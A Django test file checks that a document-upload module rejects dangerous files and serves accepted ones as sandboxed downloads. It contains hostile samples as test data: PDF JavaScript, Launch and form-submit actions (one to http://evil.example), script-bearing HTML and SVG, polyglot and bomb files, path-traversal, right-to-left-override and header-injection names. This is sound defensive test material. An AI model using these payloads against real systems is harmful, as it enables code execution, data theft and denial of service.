"""Documents: judged by their bytes, renamed, sent as downloads."""

import zlib

from django.core.exceptions import ValidationError
from django.http import Http404
from django.test import SimpleTestCase, override_settings
from django.utils import translation

from kanazawa2030.core.storages import private_storage
from kanazawa2030.core.uploads import documents as uploads_documents

from .factories import compressed, pdf, png, upload

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


class CleanDocumentTests(SimpleTestCase):
    def refusal(self, data, name="plan.pdf", code=None) -> str:
        with self.assertRaises(ValidationError) as caught:
            uploads_documents.clean_document(upload(data, name))
        if code:
            self.assertEqual(caught.exception.code, code)
        return caught.exception.messages[0]

    def test_a_pdf_is_kept_as_it_is_under_another_name(self):
        data = pdf()
        cleaned = uploads_documents.clean_document(upload(data, "企画書.pdf"))
        self.assertEqual(cleaned.read(), data)
        self.assertRegex(cleaned.name, r"\A[0-9a-f]{32}\.pdf\Z")
        self.assertEqual((cleaned.kind, cleaned.label), ("pdf", "企画書.pdf"))

    def test_the_bytes_decide_not_name_or_type(self):
        self.assertEqual(uploads_documents.clean_document(upload(pdf(), "a.exe")).label, "a.pdf")
        image = uploads_documents.clean_document(upload(png(), "photo.pdf"))
        self.assertEqual((image.kind, image.label), ("image", "photo.webp"))
        self.assertEqual(image.read(4), b"RIFF")

    def test_what_is_no_document_is_refused_with_its_name(self):
        bad = {
            "page.html": b"<!doctype html><script>alert(1)</script>",
            "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
            "plan.pdf": b"MZ\x90\x00" + b"\x00" * 50,
            "zip.pdf": b"PK\x03\x04" + b"\x00" * 50,
            "moving.gif": b"GIF89a" + b"\x00" * 50,
            "short.png": b"\x89PN",
        }
        for name, data in bad.items():
            with self.subTest(name):
                words = self.refusal(data, name, "kind")
                self.assertIn(name.rpartition(".")[0], words)

    def test_two_files_in_one_are_refused(self):
        """Junk before or after is how one file passes for another."""
        html = b"<script>alert(1)</script>"
        for name, data in {
            "before": html + pdf(),
            "after": pdf() + html,
            "zip after": pdf() + b"PK\x05\x06" + b"\x00" * 18,
            "far after": pdf() + b"\n" * 200 + html,
            "no end": pdf(tail=b""),
            "no objects": b"%PDF-1.7\nhello\n%%EOF\n",
        }.items():
            with self.subTest(name):
                self.refusal(data)

    def test_active_content_is_refused(self):
        for name, data in {
            "script": pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"),
            "hidden name": pdf(b"<< /S /J#61vaScript /JS (x) >>"),
            "launch": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            "file in it": pdf(
                b"<< /Type /Filespec /EF << >> >>", catalog=b"/Names << /EmbeddedFiles 4 0 R >>"
            ),
            "form": pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"),
            "sends": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
            "compressed": pdf(compressed(b"4 0 " + SCRIPT)),
            "compressed, hidden": pdf(compressed(b"4 0 << /S /#4aavaScript >>")),
        }.items():
            with self.subTest(name):
                self.refusal(data, code="active")

    def test_what_cannot_be_looked_into_is_refused(self):
        packed = compressed(b"4 0 << >>", b"/Filter [/ASCII85Decode /FlateDecode]")
        self.refusal(pdf(packed), code="coding")
        self.refusal(pdf(compressed(b"4 0 << >>", b"/Filter /LZWDecode")), code="coding")
        self.refusal(pdf(catalog=b"/Encrypt 4 0 R"), code="locked")
        broken = compressed(b"4 0 << >>").replace(zlib.compress(b"4 0 << >>"), b"x" * 17)
        self.refusal(pdf(broken), code="unreadable")

    def test_a_bomb_is_refused_before_it_bursts(self):
        bomb = compressed(b" " * (uploads_documents._MOST_INFLATED + 10))
        self.assertLess(len(bomb), 100_000)
        self.refusal(pdf(bomb), code="bomb")

    def test_ordinary_compressed_and_opening_pdfs_pass(self):
        data = pdf(
            compressed(b"4 0 << /Type /Font /BaseFont /JavaScripty >>"),
            catalog=b"/OpenAction [3 0 R /FitH null]",
        )
        self.assertEqual(uploads_documents.clean_document(upload(data)).kind, "pdf")

    @override_settings(DOCUMENT_MAX_BYTES=500)
    def test_size(self):
        self.assertIn("MB", self.refusal(pdf(b" " * 500), code="too_heavy"))
        self.refusal(b"", code="empty")
        with translation.override("en"):
            self.assertEqual(self.refusal(b""), "“plan” is empty. Choose the file again.")

    def test_an_image_bomb_is_refused_in_words(self):
        data = bytearray(png())
        data[16:24] = (60_000).to_bytes(4, "big") * 2  # what its header claims to be
        words = self.refusal(bytes(data), "big.png")
        self.assertIn("big", words)

    def test_shown_names(self):
        for given, shown in {
            "../../etc/passwd": "passwd",
            "C:\\Users\\x\\plan.final.pdf": "plan.final",
            'a"b<c>.pdf': "a b c",
            "\u202efdp.exe": "fdp",
            "": "file",
            ".pdf": "pdf",
            "あ" * 300 + ".pdf": "あ" * 100,
        }.items():
            with self.subTest(given):
                self.assertEqual(uploads_documents.shown_name(given), shown)


class DownloadTests(SimpleTestCase):
    def setUp(self):
        self.name = private_storage().save("proposals/x.pdf", upload(pdf()))
        self.addCleanup(private_storage().delete, self.name)

    def test_only_ever_a_download(self):
        response = uploads_documents.download(self.name, kind="pdf", label="企画\r\nX: y.pdf")
        self.assertEqual(response["Content-Type"], "application/pdf")
        self.assertTrue(response["Content-Disposition"].startswith("attachment"))
        self.assertNotIn("\n", response["Content-Disposition"])
        self.assertEqual(response["X-Content-Type-Options"], "nosniff")
        self.assertIn("sandbox", response["Content-Security-Policy"])
        self.assertEqual(response["Cache-Control"], "private, no-store")
        self.assertEqual(b"".join(response), pdf())
        response.close()

    @override_settings(PRIVATE_MEDIA_ACCEL="/private/")
    def test_nginx_sends_it(self):
        response = uploads_documents.download(self.name, kind="pdf", label="plan.pdf")
        self.assertEqual(response["X-Accel-Redirect"], f"/private/{self.name}")
        self.assertEqual(response.content, b"")

    def test_a_missing_file_is_404(self):
        with self.assertRaises(Http404):
            uploads_documents.download("proposals/none.pdf", kind="pdf", label="x.pdf")
